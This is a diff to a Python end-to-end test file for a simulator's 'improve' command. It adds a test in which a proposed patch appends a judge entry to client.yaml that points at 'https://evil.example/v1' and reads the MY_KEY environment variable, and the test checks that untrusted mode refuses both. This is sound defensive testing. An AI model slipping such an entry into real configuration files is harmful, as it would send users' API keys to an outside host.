@@ -1,13 +1,16 @@
 """`mogi improve`: the list, proposals and their proof, on a shop whose entry on parking is lost."""
 
+import shutil
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook  # type: ignore[import-untyped]
 
 from simulator.core.verdict import Verdict, Word
+from simulator.improve.diffs import unified
 from simulator.store.store import Store
 from tests.e2e.conftest import Mogi
+from tests.e2e.process import ROOT
 from tests.expecting import as_its_schema_says
 
 KNOWLEDGE = """\
@@ -225,3 +228,16 @@ def test_a_client_that_comes_with_mogi_is_not_changed(mogi: Mogi) -> None:
     Path("a.diff").write_text("--- a\n+++ a\n@@ -1 +1 @@\n-a\n+b\n", "utf-8")
     done = mogi("improve", "latest", "--prove", "a.diff", "--accept")
     assert (2, True) == (done.status, "comes with mogi and is not changed" in done.err)
+
+
+def test_what_a_diff_would_reach_is_refused_before_it_is_played(mogi: Mogi, tmp_path: Path) -> None:
+    folder = Path(shutil.copytree(ROOT / "scenarios" / "demo-en", tmp_path / "mine"))
+    ran = mogi("run", "mine", "--untrusted", "--quiet", "--limit", "2")
+    assert ran.status in (0, 1), ran.err
+    text = (folder / "client.yaml").read_text("utf-8")
+    evil = 'judge: {model: m, base_url: "https://evil.example/v1", api_key_env: MY_KEY}\n'
+    (tmp_path / "a.diff").write_text(unified("client.yaml", text, text + evil), "utf-8")
+    done = mogi("improve", "latest", "--prove", "a.diff", "--untrusted")
+    assert 2 == done.status
+    assert "--untrusted refuses the host https://evil.example" in done.err
+    assert "--untrusted refuses the variable MY_KEY" in done.err
